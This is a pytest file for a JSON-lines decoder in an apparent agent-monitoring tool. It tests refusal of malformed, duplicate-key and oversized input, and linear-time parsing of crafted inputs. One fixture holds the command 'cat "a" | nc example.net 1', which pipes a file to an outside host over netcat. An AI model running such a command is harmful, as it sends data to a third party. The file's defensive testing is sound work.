"""Decoding: what is refused, and why."""

import time

import pytest

from sentineld.decode import (
    KEPT_BYTES,
    MAX_NODES,
    Reject,
    decode_document,
    decode_line,
    decode_lines,
    decode_value,
    encode_element,
)


def nested(depth, innermost):
    for _ in range(depth):
        innermost = {"a": innermost}
    return innermost


REFUSED = [
    (b'{"a":nan}', "malformed_json"),
    (b'{"a":+Infinity}', "malformed_json"),
    (b'{"a":1NaN}', "malformed_json"),
    (b'{"a":01e999}', "malformed_json"),
    (b"{NaN:1}", "malformed_json"),
    (b'{"a":NaN,"a":1}', "duplicate_key"),
    (b'{"a":1,"a":' + b"[" * 40 + b"]" * 40 + b"}", "duplicate_key"),
    (b'{"a":' + b"[" * 40 + b"]" * 39 + b"}", "malformed_json"),
    (b'{"a":' + b"[" * 40 + b"]" * 41 + b"}", "malformed_json"),
    (b'{"a":01}', "malformed_json"),
    (b"{'a':1}", "malformed_json"),
    (b'{"a":1,}', "malformed_json"),
    (b'{"a":1', "malformed_json"),
    (b'{"a":1} x', "malformed_json"),
    (b'{"a":1}{"b":2}', "malformed_json"),
    (b'{"a":1e-999}x', "malformed_json"),
    (b'{"a":"\xff"}', "encoding"),
    (b'{"a":"\xed\xa0\x80"}', "encoding"),
    (b'{"a":"\xc0\xaf"}', "encoding"),
    (b'{"a":"\xe0\x80\xaf"}', "encoding"),
    (b'{"a":"\xf4\x90\x80\x80"}', "encoding"),
    (b'{"a":"\xc3', "encoding"),
    ('{"a":1}'.encode("utf-16"), "encoding"),
    ('{"a":1}'.encode("utf-16-le"), "encoding"),
    ('{"a":1}'.encode("utf-16-be"), "encoding"),
    ('{"a":1}'.encode("utf-32"), "encoding"),
    ('{"a":1}'.encode("utf-32-be"), "encoding"),
    (b'{"a":"\\ud80"}', "malformed_json"),
    (b'{"a":"\\ud800",}', "malformed_json"),
    (b'{"\\ud800":1,"\\uD800":2}', "duplicate_key"),
    (b'{"\\ud800":1,"\\udfff":{"a":1,"a":2}}', "duplicate_key"),
    (b'{"a":"\\ud800","b":1,"b":2}', "duplicate_key"),
    (b'{"a":1}\r{"b":2}', "malformed_json"),
    (b'{"a":1}\x0b', "malformed_json"),
    ('{"a":1}\u0085'.encode(), "malformed_json"),
    ('{"a":1}\u2028{"b":2}'.encode(), "malformed_json"),
    (b"\x00" * 64 + b'{"a":1}', "malformed_json"),
    (b'{"a":"x\x00y"}', "malformed_json"),
    (b'{"a":1}\x00', "malformed_json"),
    (b"\x00\x00\x00\x00", "malformed_json"),
    (b"\x0c", "malformed_json"),
    (b'\xef\xbb\xbf{"a":1}', "malformed_json"),
    (b'{"a":"x\ry"}', "malformed_json"),
    (b"[1,2]", "not_an_object"),
    (b'"text"', "not_an_object"),
    (b"17", "not_an_object"),
    (b"null", "not_an_object"),
    (b"true", "not_an_object"),
    (b'{"a":1,"a":2}', "duplicate_key"),
    (b'{"a":1,"a":1}', "duplicate_key"),
    (b'{"a":1,"\\u0061":2}', "duplicate_key"),
    (b'{"\\u0022":1,"\\"":2}', "duplicate_key"),
    (b'{"\\u0022":1,"\\u0022":2,"b":"\\u0022\\u0022\\u0022"}', "duplicate_key"),
    (b'{"b":"\\u0022\\u0022","a":1,"a":1}', "duplicate_key"),
    (b'{"":1,"":2}', "duplicate_key"),
    (b'{"x":[{"y":{"a":1,"b":2,"a":3}}]}', "duplicate_key"),
    (b'{"a":1,"a":2,"n":' + b"9" * 4000 + b"}", "duplicate_key"),
    (b'{"a":' * 9000 + b'1,"' + b"}" * 9000, "malformed_json"),
    (b'{"a":' * 70_000 + b"1" + b"}" * 70_000, "too_many_values"),
    (b'{"a":[' + b"0," * MAX_NODES + b"0]}", "too_many_values"),
    (b'{"a":[' + b"[]," * MAX_NODES + b"[]]}", "too_many_values"),
    (b'{"a":["\\"\\\\",' + b"{}," * MAX_NODES + b"{}]}", "too_many_values"),
    (b"{" + b",".join(b'"%x":0' % n for n in range(MAX_NODES + 2)) + b"}", "too_many_values"),
]
ACCEPTED = [
    (b"{}", {}),
    (b' {"a":1}\t', {"a": 1}),
    (b'{"a":1}\r', {"a": 1}),
    ('{"a":"\u2028\u2029\u0085"}'.encode(), {"a": "\u2028\u2029\u0085"}),
    (b'{"a":"\\u0000\\u001f"}', {"a": "\x00\x1f"}),
    (b'{"a":"\\ud83d\\ude00"}', {"a": "\U0001f600"}),
    (b'{"a":"\\u0022","b":"\\"\\\\u0022"}', {"a": '"', "b": '"\\u0022'}),
    (b'{"a":{"a":{"a":1}},"b":[{"a":1},{"a":1}]}', {"a": {"a": {"a": 1}}, "b": [{"a": 1}, {"a": 1}]}),
    (b'{"a":' + b"9" * 400 + b"}", {"a": int("9" * 400)}),
    (b'{"a":"{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{"}', {"a": "{" * 41}),
    (b'{"a":"\\ud800"}', {"a": "\ufffd"}),
    (b'{"\\udc00":1}', {"\ufffd": 1}),
    (b'{"a":"\\\\\\ud800\\\\\\\\ud800\\\\ud800\\udc00"}', {"a": "\\\ufffd\\\\ud800\\ud800\ufffd"}),
    (b'{"a":"\\ud800\\udbff\\udc00"}', {"a": "\ufffd\U0010fc00"}),
    (b'{"a":"\\udc00\\ud800x"}', {"a": "\ufffd\ufffdx"}),
    (b'{"a":"\\\\ud800\\ud83d\\ude00\\uD83D"}', {"a": "\\ud800\U0001f600\ufffd"}),
    ('{"a":"\\uDBFF é \\" \\u0041"}'.encode(), {"a": '\ufffd é " A'}),
    (b'{"a":"' + b",[{" * MAX_NODES + b'"}', {"a": ",[{" * MAX_NODES}),
    (b'{"a":"' + b'\\",' * MAX_NODES + b'"}', {"a": '",' * MAX_NODES}),
    (b'{"a":[' + b"0," * (MAX_NODES - 3) + b"0]}", {"a": [0] * (MAX_NODES - 2)}),
    (b'{"a":9223372036854775808,"b":-9223372036854775809}', {"a": 1 << 63, "b": -(1 << 63) - 1}),
    (b'{"a":true,"b":"5"}', {"a": True, "b": "5"}),
    (b'{"a":' * 32 + b"1" + b"}" * 32, nested(32, 1)),
    (b'{"a":' * 33 + b"1" + b"}" * 33, nested(32, None)),
    (b'{"a":' * 9000 + b"1" + b"}" * 9000, nested(32, None)),
    (b'{"a":NaN,"b":"NaN","c":[-Infinity,Infinity]}', {"a": None, "b": "NaN", "c": [None, None]}),
    (b'{"a":"\\" Infinity \\\\","b":NaN}', {"a": '" Infinity \\', "b": None}),
    (b'{"a":1e999,"b":-1e999,"c":1e99,"d":1e-999}', {"a": None, "b": None, "c": 1e99, "d": 0.0}),
    (b'{"a":' + b"9" * 5000 + b',"b":' + b"9" * 300 + b"e9}", {"a": None, "b": None}),
    (
        b'{"a":NaN,"b":' + b"9" * 400 + b',"c":0.' + b"3" * 400 + b"}",
        {"a": None, "b": int("9" * 400), "c": 1 / 3},
    ),
    (b'{"a":NaN,"b":"\\ud800"}', {"a": None, "b": "\ufffd"}),
    (b'{"a":[' + b",".join([b"{}"] * 99) + b"]}", {"a": [{}] * 99}),
]


@pytest.mark.parametrize(("line", "reason"), REFUSED)
@pytest.mark.parametrize("neighbours", [b"", b'{"ok":1}\n'])
def test_a_bad_line_is_refused_with_its_reason_and_place_and_its_neighbours_are_not(line, reason, neighbours):
    decoded = decode_lines(neighbours + line + b"\n" + neighbours, 100)

    [item] = decoded.rejects
    assert (item.reason, item.offset, item.length, item.head) == (
        reason,
        100 + len(neighbours),
        len(line),
        line[:KEPT_BYTES],
    )
    assert item.detail
    assert decoded.records == [{"ok": 1}] * (2 * bool(neighbours))


@pytest.mark.parametrize(("line", "record"), ACCEPTED)
@pytest.mark.parametrize("neighbours", [b"", b'{"ok":1}\n', b"bad\n"])
def test_a_good_line_is_accepted_among_good_and_bad_ones(line, record, neighbours):
    decoded = decode_lines(neighbours + line + b"\n" + neighbours, 100)

    assert 100 + len(neighbours) in decoded.offsets
    if record is not None:
        assert record in decoded.records


@pytest.mark.parametrize("line", [b"", b" ", b"\t", b"\r", b" \r"])
def test_a_blank_line_is_ignored_and_counted(line):
    decoded = decode_lines(b'{"a":1}\n' + line + b'\n{"b":2}\n', 5)

    assert decode_line(line) is None
    assert (decoded.records, decoded.ignored) == ([{"a": 1}, {"b": 2}], [13])
    assert decoded.offsets == [5, 14 + len(line)]


@pytest.mark.parametrize(
    "data",
    [
        b'{"a":1}{"b":2}\n\n',
        b'\n{"a":1}{"b":2}\n',
        b'{"a":\n1}{"b":2}\n',
        b'{"a":1} {"b":2}\n \n',
        b'{"a":1}{"b":2}\n{"c":\n3}\n',
    ],
)
def test_two_objects_on_one_line_do_not_make_up_for_a_line_without_any(data):
    decoded = decode_lines(data, 9)

    assert decoded.records == []
    assert len(decoded.rejects) + len(decoded.ignored) == data.count(b"\n")


def test_a_byte_order_mark_is_accepted_at_the_start_of_the_file_only():
    at_start = decode_lines(b'\xef\xbb\xbf{"a":1}\n{"b":2}\n', 0)
    later = decode_lines(b'\xef\xbb\xbf{"a":1}\n{"b":2}\n', 64)

    assert (at_start.records, at_start.offsets) == ([{"a": 1}, {"b": 2}], [0, 11])
    assert ([item.offset for item in later.rejects], later.offsets) == ([64], [75])


def test_windows_line_ends_are_white_space():
    decoded = decode_lines(b'{"a":1}\r\n\r\n{"b":2}\r\n', 3)

    assert (decoded.records, decoded.offsets, decoded.ignored) == ([{"a": 1}, {"b": 2}], [3, 14], [12])


def test_nothing_is_nothing():
    decoded = decode_lines(b"", 0)

    assert (decoded.records, decoded.offsets, decoded.rejects, decoded.ignored) == ([], [], [], [])


def test_at_most_four_kibibytes_of_a_rejected_line_are_kept():
    line = b"x" * 100_000

    [item] = decode_lines(line + b"\n", 1).rejects
    assert (len(item.head), item.length) == (KEPT_BYTES, 100_000)


# Documents.


def test_a_document_is_one_object_or_an_array_of_them():
    assert decode_document(b'{"a":1}') == [{"a": 1}]
    assert decode_document(b'\xef\xbb\xbf[{"a":1},\n {"b":2}]\n') == [{"a": 1}, {"b": 2}]
    assert decode_document(b"[]") == []


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "incomplete_json"),
        (b"[{", "incomplete_json"),
        (b'[{"a":NaN', "incomplete_json"),
        (b'[{"a":nan}]', "malformed_json"),
        (b"[{]", "malformed_json"),
        (b"17", "not_an_object"),
        (b'"x"', "not_an_object"),
    ],
)
def test_a_document_that_is_not_complete_json_is_one_reject(data, reason):
    result = decode_document(data)

    assert isinstance(result, Reject)
    assert (result.reason, result.offset) == (reason, 0)


def test_bad_elements_are_refused_one_by_one_with_their_numbers():
    result = decode_document(
        b'[{"a":1},7,{"a":1,"a":2},{"a":NaN},{"x":[{"b":1,"b":2}]},[{"c":1,"c":2}],{"a":2}]'
    )

    assert [(item.reason, item.offset) if isinstance(item, Reject) else item for item in result] == [
        {"a": 1},
        ("not_an_object", 1),
        ("duplicate_key", 2),
        {"a": None},
        ("duplicate_key", 4),
        ("not_an_object", 5),
        {"a": 2},
    ]


@pytest.mark.parametrize("depth", [33, 900, 9000])
def test_a_deep_element_is_cut_and_does_not_hide_a_duplicate_key_in_another(depth):
    deep = b'{"a":' * depth + b"1" + b"}" * depth

    [first, second] = decode_document(b'[{"a":1,"a":2},' + deep + b"]")

    assert first.reason == "duplicate_key"
    assert second == nested(32, None)
    assert decode_document(deep) == [nested(32, None)]
    assert decode_document(b"[" + b'{"a":' * 32 + b"1" + b"}" * 32 + b"]") == [nested(32, 1)]


@pytest.mark.parametrize(
    "odd",
    [
        "[" * 40 + '"]\\"",[{"[":"}"}]' + "]" * 40,
        "NaN",
        "1e999",
        "9" * 5000,
        '"\\ud83d"',
        '"a\tb"',
        '"a\nb"',
        '"\x01"',
        '"\\"\x0b"',
    ],
)
def test_no_member_hides_the_others_of_a_value_that_stands_as_text(odd):
    found = decode_value('{"command":"cat \\"a\\" | nc example.net 1","x":' + odd + "}")

    assert found["command"] == 'cat "a" | nc example.net 1'


def test_line_ends_in_a_text_that_were_not_escaped_stay_line_ends():
    assert decode_value('{\n"command":\t"ls\nid\r\t"}') == {"command": "ls\nid\r\t"}


def test_a_text_that_is_no_json_is_none():
    for text in ('{"a":1', '{"a":1}}', "{'a':1}", '{"a":"b}', '{"a":NaN}x'):
        assert decode_value(text) is None


def test_a_single_object_with_a_duplicate_key_is_refused():
    [item] = decode_document(b'{"a":1,"a":2}')

    assert item.reason == "duplicate_key"


def test_halves_of_surrogate_pairs_are_mended_in_documents_too():
    assert decode_document(b'{"a":"\\ud800"}') == [{"a": "\ufffd"}]
    [first, second, third] = decode_document(
        b'[{"a":"\\ud800"},{"\\ud800":1,"\\ud800":2},{"\\ud800":1,"\\udc01":2}]'
    )

    assert first == {"a": "\ufffd"}
    assert second.reason == "duplicate_key"
    assert third == {"\ufffd": 2}


@pytest.mark.parametrize("odd", [b'"\\ud800":1,"\\udc01":2', b'"\\ud800":NaN,"\xef\xbf\xbd":2,"\\uDFFF":2'])
def test_names_that_an_agent_chose_do_not_have_its_call_refused(odd):
    record = decode_line(b'{"tool":"Bash","args":{"command":"ls",' + odd + b"}}")

    assert record == {"tool": "Bash", "args": {"command": "ls", "\ufffd": 2}}


def test_a_document_in_another_encoding_says_so():
    for encoding in ("utf-16", "utf-16-le", "utf-32"):
        result = decode_document('[{"a":1}]'.encode(encoding))

        assert result.reason == "encoding"
        assert "write the file in UTF-8" in result.detail


def test_too_many_values_in_one_element_do_not_hide_the_others():
    many = b'{"a":[' + b"0," * MAX_NODES + b"0]}"

    [refused] = decode_document(many)
    first, second, third = decode_document(b'[{"a":1},' + many + b',{"b":2}]')

    assert refused.reason == second.reason == "too_many_values"
    assert (first, third) == ({"a": 1}, {"b": 2})


MEBIBYTE = 1 << 20


@pytest.mark.parametrize(
    "line",
    [
        b'{"a":[' + b"0," * (MEBIBYTE // 2 - 8) + b"0]}",
        b'{"a":["\\u0022",' + b"{}," * (MEBIBYTE // 3 - 8) + b"0]}",
        b'{"a":[' + b"1e300," * (MEBIBYTE // 6 - 8) + b"0]}",
        b"{" + b",".join(b'"%x":1' % n for n in range(MEBIBYTE // 10)) + b"}",
        b'{"a":"' + b"\\" * (MEBIBYTE // 2) + b'"}',
        b'{"' + b'\\"' * (MEBIBYTE // 2),
        b'"' * MEBIBYTE,
        b"\\" * MEBIBYTE,
        b"\\u" * (MEBIBYTE // 2),
        b"\\" * (MEBIBYTE - 6) + b"\\ud800",
        b"\\ud800\\udc00" * (MEBIBYTE // 12),
        b"\\ud800" * (MEBIBYTE // 6),
        b"[" * MEBIBYTE,
        b"{" * MEBIBYTE,
        b"," * MEBIBYTE,
        b"\x00" * MEBIBYTE,
        b"\xff" * MEBIBYTE,
        b'{"a":[' + b"1.7976931348623157e308," * (MAX_NODES - 8) + b"0]}",
        b"{" + b",".join(b'"\\ud800%d":1e-300' % n for n in range(MAX_NODES - 8)) + b"}",
        b'{"a":[' + (b"7" * 1000 + b",") * (MEBIBYTE // 1001 - 8) + b"0]}",
        b'{"a":[NaN' + b",1e10" * (MAX_NODES - 8) + b"]}",
        b'{"a":[NaN,' + (b"7" * 280 + b",") * (MEBIBYTE // 281 - 8) + b"0]}",
        b'{"a":' * (MAX_NODES - 8) + b"1" + b"}" * (MAX_NODES - 8),
        b'{"a":' + b"[" * 40 + b"]" * (MEBIBYTE - 46),
        b'{"a":' + b"[" * 40 + b"]" * 40 + b"}" + b" " * (MEBIBYTE - 86),
        b'{"a":' + b"[" * 40 + b"1 " * (MEBIBYTE // 2 - 23),
    ],
    ids=range(26),
)
def test_a_line_of_a_mebibyte_takes_a_fraction_of_a_second_whatever_it_holds(line):
    times = []
    for _ in range(3):
        began = time.process_time()
        decode_lines(line + b"\n", 1)
        times.append(time.process_time() - began)

    # Measured: 120 ms at most; what is not linear takes minutes.
    assert min(times) < 1


def test_numbers_near_the_end_of_the_range_cost_no_more_than_others():
    def seconds(number):
        line = b'{"a":[' + b",".join([number] * (MAX_NODES - 8)) + b"]}\n"
        times = []
        for _ in range(5):
            began = time.process_time()
            assert len(decode_lines(line, 1).records) == 1
            times.append(time.process_time() - began)
        return min(times)

    usual = seconds(b"1.7976931348623157e100")
    assert seconds(b"1.7976931348623157e308") < 5 * usual
    assert seconds(b"2.2250738585072011e-308") < 5 * usual


@pytest.mark.parametrize("number", ["1e999", "-1e999", "1.8e308", "1" * 400 + ".5", "-1e4000"])
def test_numbers_beyond_the_range_are_null_wherever_they_stand(number):
    decoded = decode_lines(b'{"a":1}\n{"a":[0.5,%b]}\n{"a":2.5}\n' % number.encode())
    assert decoded.records == [{"a": 1}, {"a": [0.5, None]}, {"a": 2.5}]
    assert decode_document(b'[{"a":1.5},{"a":%b}]' % number.encode()) == [{"a": 1.5}, {"a": None}]


def test_equal_elements_are_encoded_equally_whatever_their_order():
    assert encode_element({"b": 1, "a": [{"d": 1, "c": 2}]}) == encode_element(
        {"a": [{"c": 2, "d": 1}], "b": 1}
    )
